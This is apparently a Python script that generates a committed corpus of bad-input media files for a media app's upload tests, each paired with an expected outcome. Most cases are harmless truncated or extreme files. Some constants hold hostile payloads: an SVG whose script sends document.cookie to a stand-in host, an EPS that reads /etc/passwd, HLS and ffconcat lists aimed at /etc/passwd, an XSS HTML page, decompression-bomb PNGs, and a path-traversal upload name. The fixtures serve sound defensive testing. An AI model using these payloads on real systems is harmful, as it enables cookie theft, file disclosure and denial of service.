"""Remake the bad-input corpus: one small file per case (each well under 100 KB; the files are committed).

    PYTHONPATH=. .venv/bin/python tests/data/bad/make_bad.py

CASES (below) is the manifest: file name -> (what it is, what every entry point must make of it).
tests/test_bad_input.py runs every file through every entry point that takes files.
The outcome classes:
  refused  no entry point may accept it: each gives a clean error (a plain sentence);
  audio    a usable sound: entry points for sound give a correct output, the others a clean error;
  image    a usable picture: the picture entry points give a correct output, the others a clean error;
  video    a usable video: the face pass gives a correct output (its sound may serve as a narration);
  either   damaged but partly readable: a clean error or a correct output, never anything else.
Files named sec-* belong to the safety helper's upload sniffing tests and are not made here.
"""

from __future__ import annotations

import io
import struct
import subprocess
import wave
import zipfile
import zlib
from pathlib import Path

import numpy as np
from PIL import Image

HERE = Path(__file__).resolve().parent
RTL_NAME = "rtl-\u202egnp.wav"  # a WAV whose name shows as "rtl-vaw.png" in a right-to-left aware view
RATE = 16000

CASES: dict[str, tuple[str, str]] = {
    # empty files with media suffixes
    "empty.wav": ("zero bytes", "refused"),
    "empty.mp3": ("zero bytes", "refused"),
    "empty.ogg": ("zero bytes", "refused"),
    "empty.webm": ("zero bytes", "refused"),
    "empty.mp4": ("zero bytes", "refused"),
    "empty.png": ("zero bytes", "refused"),
    "empty.jpg": ("zero bytes", "refused"),
    # truncated
    "truncated-header.wav": ("a WAV cut inside its 44-byte header", "refused"),
    "truncated-data.wav": ("a WAV whose header promises 3 s, with 1.5 s of tone present", "either"),
    "truncated.mp3": ("the first 40% of a 3 s MP3 tone", "either"),
    "truncated.ogg": ("the first 40% of a 3 s Ogg Vorbis tone", "either"),
    "truncated.webm": ("the first 40% of a 3 s WebM (Opus) tone, as a browser take cut off", "either"),
    "truncated-moov.mp4": ("an MP4 whose moov atom (at the end) is cut away", "refused"),
    "truncated.png": ("the first half of a PNG", "either"),
    "truncated.jpg": ("the first half of a JPEG", "either"),
    # wrong types
    "png-named.wav": ("a PNG picture named .wav", "image"),
    "text-named.mp4": ("plain text named .mp4", "refused"),
    "zip-named.jpg": ("a zip archive named .jpg", "refused"),
    "wav-named.jpg": ("a WAV tone named .jpg", "audio"),
    "html-named.png": ("an HTML page with a script, named .png", "refused"),
    # hostile containers that make a demuxer open other things
    "hls-url.m3u8": ("an HLS playlist whose segment is on the network", "refused"),
    "hls-url-named.mp4": ("the same playlist named .mp4", "refused"),
    "hls-passwd.m3u8": ("an HLS playlist whose segment is /etc/passwd", "refused"),
    "hls-passwd-named.wav": ("the same playlist named .wav", "refused"),
    "ffconcat-passwd.wav": ("an ffconcat list naming /etc/passwd, named .wav", "refused"),
    "ffconcat-sibling.mp3": ("an ffconcat list naming a file beside it (tone-1s.wav), named .mp3", "refused"),
    "svg-script.svg": ("an SVG with a script element", "refused"),
    "svg-script-named.png": ("the same SVG named .png", "refused"),
    "postscript.eps": ("an EPS file (Pillow would hand it to Ghostscript)", "refused"),
    "postscript-named.jpg": ("the same EPS named .jpg", "refused"),
    "bomb-declared.png": ("a PNG header declaring 100000x100000 pixels, with no data", "refused"),
    "bomb-1bit-100mp.png": ("a real 10000x10000 1-bit PNG (12 KB inflating to 100 MP of RGB)", "refused"),
    "apng-10000-frames.png": ("an APNG whose acTL declares 10000 frames, with one present", "image"),
    "gif-4000-frames.gif": ("a GIF with 4000 one-pixel frames (10000 would not fit in 100 KB)", "image"),
    "exif-junk.jpg": ("a JPEG with orientation 65535, a zero resolution and a huge text tag", "image"),
    "exif-loop.jpg": ("a JPEG whose EXIF IFD points back at itself and claims 65535 entries", "image"),
    "wav-0-channels.wav": ("a WAV header with 0 channels", "refused"),
    "wav-0-hz.wav": ("a WAV header with a 0 Hz sample rate", "refused"),
    "wav-1gb-declared.wav": ("a WAV header declaring 1 GB of data, with 1 s present", "either"),
    "wav-nan.wav": ("a float WAV, 2 s, all NaN (read as silence, never as NaN)", "either"),
    "wav-inf-and-loud.wav": ("a float WAV, 2 s of tone at 40x full scale with +-inf in it", "either"),
    "video-0x0.mp4": ("an H.264 MP4 whose container says 0x0 pixels", "either"),
    "video-rotate-45.mp4": ("an H.264 MP4 with a 45 degree display rotation", "video"),
    "video-tiny.webm": ("a valid 1 s 64x48 VP8 WebM with a tone", "video"),
    # valid but extreme
    "silence.wav": ("3 s of digital silence (valid)", "audio"),
    "short-0.05s.wav": ("0.05 s of tone (valid, too short to be a narration)", "either"),
    "tone-1s.wav": ("1.5 s of a gliding tone (valid)", "audio"),
    "stereo-8k.wav": ("2 s stereo 8 kHz tone (valid)", "audio"),
    "opus-tone.webm": ("2 s WebM/Opus tone, as a browser records (valid)", "audio"),
    "one-pixel.png": ("a 1x1 picture", "image"),
    "cmyk.jpg": ("a CMYK JPEG", "image"),
    "gray16.png": ("a 16-bit greyscale PNG", "image"),
    "animated.webp": ("an animated WebP of 3 frames", "image"),
    "tall-1x4000.png": ("a 1x4000 picture", "image"),
    "dotdot-name.wav": ("a valid tone uploaded as ../../../etc/cron.d/x.wav", "audio"),
    RTL_NAME: ("a valid tone whose name carries U+202E RIGHT-TO-LEFT OVERRIDE", "audio"),
}

# The name a browser sends for a file, where it is not the file's own.
UPLOAD_NAMES = {"dotdot-name.wav": "../../../etc/cron.d/x.wav"}


def ffmpeg(*args: str) -> None:
    import imageio_ffmpeg

    subprocess.run([imageio_ffmpeg.get_ffmpeg_exe(), "-hide_banner", "-loglevel", "error", "-y", *args], check=True)


def glide(seconds: float, rate: int = RATE, amp: float = 0.3) -> np.ndarray:
    """A tone that glides 200-600 Hz with a 4 Hz tremolo: loud enough to count as a voice."""
    t = np.arange(int(seconds * rate)) / rate
    freq = 200 + 400 * t / max(seconds, 1e-3)
    return (amp * (0.6 + 0.4 * np.sin(2 * np.pi * 4 * t)) * np.sin(2 * np.pi * np.cumsum(freq) / rate)).astype(np.float32)


def pcm_wav(samples: np.ndarray, rate: int = RATE, channels: int = 1) -> bytes:
    buf = io.BytesIO()
    with wave.open(buf, "wb") as w:
        w.setnchannels(channels)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes((np.clip(samples, -1, 1) * 32767).astype("<i2").tobytes())
    return buf.getvalue()


def wav_header(*, channels: int, rate: int, bits: int, data_bytes: int, fmt: int = 1) -> bytes:
    block = channels * bits // 8
    fmt_chunk = struct.pack("<HHIIHH", fmt, channels, rate, rate * block, block, bits)
    return (
        b"RIFF"
        + struct.pack("<I", 36 + data_bytes)
        + b"WAVE"
        + b"fmt "
        + struct.pack("<I", 16)
        + fmt_chunk
        + b"data"
        + struct.pack("<I", data_bytes)
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bytes(img: Image.Image, **save) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format="PNG", **save)
    return buf.getvalue()


def jpeg_bytes(img: Image.Image, **save) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format="JPEG", quality=85, **save)
    return buf.getvalue()


def with_app1(jpeg: bytes, payload: bytes) -> bytes:
    """``jpeg`` with an APP1 (EXIF) segment holding ``payload`` right after SOI."""
    segment = b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload
    return jpeg[:2] + segment + jpeg[2:]


def picture(w: int = 96, h: int = 64) -> Image.Image:
    a = np.zeros((h, w, 3), np.uint8)
    a[..., 0] = np.linspace(0, 255, w, dtype=np.uint8)[None, :]
    a[..., 1] = np.linspace(255, 0, h, dtype=np.uint8)[:, None]
    a[..., 2] = 90
    return Image.fromarray(a)


def encoded(suffix: str, seconds: float, *codec: str) -> bytes:
    tmp = HERE / f"_tmp{suffix}"
    wav = HERE / "_tmp_in.wav"
    wav.write_bytes(pcm_wav(glide(seconds)))
    try:
        ffmpeg("-i", str(wav), *codec, str(tmp))
        return tmp.read_bytes()
    finally:
        tmp.unlink(missing_ok=True)
        wav.unlink(missing_ok=True)


def video(suffix: str, *extra: str, size: str = "64x48", seconds: float = 1.0) -> bytes:
    tmp = HERE / f"_tmp{suffix}"
    try:
        ffmpeg(
            "-f", "lavfi", "-i", f"testsrc2=size={size}:rate=10:duration={seconds}",
            "-f", "lavfi", "-i", f"sine=frequency=330:sample_rate=16000:duration={seconds}",
            *extra, "-shortest", str(tmp),
        )  # fmt: skip
        return tmp.read_bytes()
    finally:
        tmp.unlink(missing_ok=True)


def zeroed_mp4_size(data: bytes) -> bytes:
    """Set the width and height that the tkhd and avc1 boxes declare to 0 (the SPS inside still knows)."""
    out = bytearray(data)
    i = out.find(b"tkhd")
    while i != -1:
        version = out[i + 4]
        # width and height are the last 8 bytes of tkhd (16.16 fixed point)
        size = struct.unpack(">I", out[i - 4 : i])[0]
        end = i - 4 + size
        out[end - 8 : end] = b"\x00" * 8
        del version
        i = out.find(b"tkhd", i + 4)
    j = out.find(b"avc1")
    if j != -1:
        # avc1 sample entry: 6 reserved + 2 index + 16 predefined/reserved, then width, height (16 bits each)
        k = j + 4 + 6 + 2 + 16
        out[k : k + 4] = b"\x00\x00\x00\x00"
    return bytes(out)


def exif_junk() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 65535  # orientation out of range
    exif[0x011A] = (0, 0)  # XResolution 0/0
    exif[0x010E] = "A" * 20000  # ImageDescription, 20 kB
    exif[0x9003] = "9999:99:99 99:99:99"
    return jpeg_bytes(picture(), exif=exif.tobytes())


def exif_loop() -> bytes:
    # TIFF header (little endian), IFD0 at offset 8 claiming 65535 entries, next-IFD pointing back at 8.
    entry = struct.pack("<HHII", 0x0112, 3, 1, 6)  # orientation 6, then garbage implied by the huge count
    tiff = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF) + entry * 4 + struct.pack("<I", 8)
    return with_app1(jpeg_bytes(picture()), b"Exif\x00\x00" + tiff)


def apng_10000() -> bytes:
    raw = png_bytes(picture(32, 32))
    ihdr_end = 8 + 8 + 13 + 4
    actl = png_chunk(b"acTL", struct.pack(">II", 10000, 0))
    fctl = png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 32, 32, 0, 0, 1, 10, 0, 0))
    return raw[:ihdr_end] + actl + fctl + raw[ihdr_end:]


def gif_frames(count: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    # one 1x1 frame: descriptor, LZW min code size 2, codes clear(4) pixel(i%2) end(5) packed in 3-bit codes
    frames = []
    for i in range(count):
        codes = 4 | ((i % 2) << 3) | (5 << 6)
        frames.append(b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02" + struct.pack("<H", codes) + b"\x00")
    return head + loop + b"".join(frames) + b"\x3b"


def bomb_declared() -> bytes:
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + ihdr + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + png_chunk(b"IEND", b"")


def bomb_1bit() -> bytes:
    side = 10000
    row = b"\x00" + b"\x00" * (side // 8)
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    idat = png_chunk(b"IDAT", zlib.compress(row * side, 9))
    return b"\x89PNG\r\n\x1a\n" + ihdr + idat + png_chunk(b"IEND", b"")


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">
  <script>fetch('http://192.0.2.1/steal?c=' + document.cookie)</script>
  <rect width="64" height="64" fill="red" onload="alert(1)"/>
</svg>
"""
EPS = b"""%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 64 64
%%EndComments
(/etc/passwd) (r) file 100 string readstring pop print
newpath 0 0 moveto 64 64 lineto stroke
showpage
%%EOF
"""
HLS_URL = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\nhttp://192.0.2.1/seg.ts\n#EXT-X-ENDLIST\n"
HLS_PASSWD = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXTINF:10.0,\n/etc/passwd\n#EXT-X-ENDLIST\n"
FFCONCAT_PASSWD = b"ffconcat version 1.0\nfile /etc/passwd\nfile ../../../../etc/passwd\n"
FFCONCAT_SIBLING = b"ffconcat version 1.0\nfile tone-1s.wav\nfile tone-1s.wav\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script><img src=x onerror=alert(1)></body></html>\n"


def build() -> dict[str, bytes]:
    rng = np.random.default_rng(16)
    tone3 = glide(3.0)
    files: dict[str, bytes] = {}
    for suffix in ("wav", "mp3", "ogg", "webm", "mp4", "png", "jpg"):
        files[f"empty.{suffix}"] = b""
    whole = pcm_wav(tone3)
    files["truncated-header.wav"] = whole[:30]
    files["truncated-data.wav"] = whole[: 44 + len(whole[44:]) // 2]
    mp3 = encoded(".mp3", 3.0, "-c:a", "libmp3lame", "-b:a", "32k")
    files["truncated.mp3"] = mp3[: len(mp3) * 2 // 5]
    ogg = encoded(".ogg", 3.0, "-c:a", "libvorbis", "-q:a", "0")
    files["truncated.ogg"] = ogg[: len(ogg) * 2 // 5]
    webm = encoded(".webm", 3.0, "-c:a", "libopus", "-b:a", "24k")
    files["truncated.webm"] = webm[: len(webm) * 2 // 5]
    mp4 = video(".mp4", "-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac", "-b:a", "32k")
    moov = mp4.find(b"moov") - 4
    files["truncated-moov.mp4"] = mp4[:moov] if moov > 0 and mp4.find(b"mdat") < moov else mp4[: len(mp4) // 3]
    noisy = Image.fromarray(rng.integers(0, 255, (48, 64, 3), dtype=np.uint8))
    png = png_bytes(noisy)
    files["truncated.png"] = png[: len(png) // 2]
    jpg = jpeg_bytes(picture(320, 240))
    files["truncated.jpg"] = jpg[: len(jpg) // 2]

    files["png-named.wav"] = png_bytes(picture())
    files["text-named.mp4"] = b"This is a letter, not a video.\n" * 20
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as z:
        z.writestr("story.txt", "not a picture\n" * 50)
    files["zip-named.jpg"] = zbuf.getvalue()
    files["wav-named.jpg"] = pcm_wav(glide(1.5))
    files["html-named.png"] = HTML

    files["hls-url.m3u8"] = HLS_URL
    files["hls-url-named.mp4"] = HLS_URL
    files["hls-passwd.m3u8"] = HLS_PASSWD
    files["hls-passwd-named.wav"] = HLS_PASSWD
    files["ffconcat-passwd.wav"] = FFCONCAT_PASSWD
    files["ffconcat-sibling.mp3"] = FFCONCAT_SIBLING
    files["svg-script.svg"] = SVG
    files["svg-script-named.png"] = SVG
    files["postscript.eps"] = EPS
    files["postscript-named.jpg"] = EPS
    files["bomb-declared.png"] = bomb_declared()
    files["bomb-1bit-100mp.png"] = bomb_1bit()
    files["apng-10000-frames.png"] = apng_10000()
    files["gif-4000-frames.gif"] = gif_frames(4000)
    files["exif-junk.jpg"] = exif_junk()
    files["exif-loop.jpg"] = exif_loop()

    second = (glide(1.0) * 32767).astype("<i2").tobytes()
    files["wav-0-channels.wav"] = wav_header(channels=0, rate=RATE, bits=16, data_bytes=len(second)) + second
    files["wav-0-hz.wav"] = wav_header(channels=1, rate=0, bits=16, data_bytes=len(second)) + second
    files["wav-1gb-declared.wav"] = wav_header(channels=1, rate=RATE, bits=16, data_bytes=1 << 30) + second
    nan = np.full(2 * 8000, np.nan, dtype="<f4")
    files["wav-nan.wav"] = wav_header(channels=1, rate=8000, bits=32, data_bytes=nan.nbytes, fmt=3) + nan.tobytes()
    loud = (40 * glide(2.0, 8000)).astype("<f4")
    loud[::500] = np.inf
    loud[250::500] = -np.inf
    files["wav-inf-and-loud.wav"] = wav_header(channels=1, rate=8000, bits=32, data_bytes=loud.nbytes, fmt=3) + loud.tobytes()
    files["video-0x0.mp4"] = zeroed_mp4_size(mp4)
    rotated_src = HERE / "_tmp_src.mp4"
    rotated_src.write_bytes(mp4)
    try:
        ffmpeg("-display_rotation:v:0", "45", "-i", str(rotated_src), "-c", "copy", str(HERE / "_tmp_rot.mp4"))
        files["video-rotate-45.mp4"] = (HERE / "_tmp_rot.mp4").read_bytes()
    finally:
        rotated_src.unlink(missing_ok=True)
        (HERE / "_tmp_rot.mp4").unlink(missing_ok=True)
    files["video-tiny.webm"] = video(".webm", "-c:v", "libvpx", "-b:v", "100k", "-c:a", "libopus", "-b:a", "24k")

    files["silence.wav"] = pcm_wav(np.zeros(3 * RATE, np.float32))
    files["short-0.05s.wav"] = pcm_wav(glide(0.05))
    files["tone-1s.wav"] = pcm_wav(glide(1.5))
    stereo = np.stack([glide(2.0, 8000), glide(2.0, 8000)[::-1]], axis=1)
    files["stereo-8k.wav"] = pcm_wav(stereo.reshape(-1), 8000, 2)
    files["opus-tone.webm"] = encoded(".webm", 2.0, "-c:a", "libopus", "-b:a", "24k")
    files["one-pixel.png"] = png_bytes(Image.new("RGB", (1, 1), (255, 128, 0)))
    files["cmyk.jpg"] = jpeg_bytes(Image.new("CMYK", (64, 48), (255, 0, 0, 0)))
    files["gray16.png"] = png_bytes(Image.fromarray(np.full((48, 64), 32768, dtype=np.uint16)))
    frames = [picture(48, 32).rotate(90 * i) for i in range(3)]
    wbuf = io.BytesIO()
    frames[0].save(wbuf, format="WEBP", save_all=True, append_images=frames[1:], duration=200, loop=0)
    files["animated.webp"] = wbuf.getvalue()
    files["tall-1x4000.png"] = png_bytes(Image.new("RGB", (1, 4000), (30, 160, 90)))
    files["dotdot-name.wav"] = pcm_wav(glide(1.5))
    files[RTL_NAME] = pcm_wav(glide(1.5))
    assert set(files) == set(CASES), set(files) ^ set(CASES)
    return files


def main() -> None:
    for name, data in build().items():
        assert len(data) < 100_000, f"{name} is {len(data)} bytes"
        (HERE / name).write_bytes(data)
    print(f"{len(CASES)} files in {HERE}")


if __name__ == "__main__":
    main()
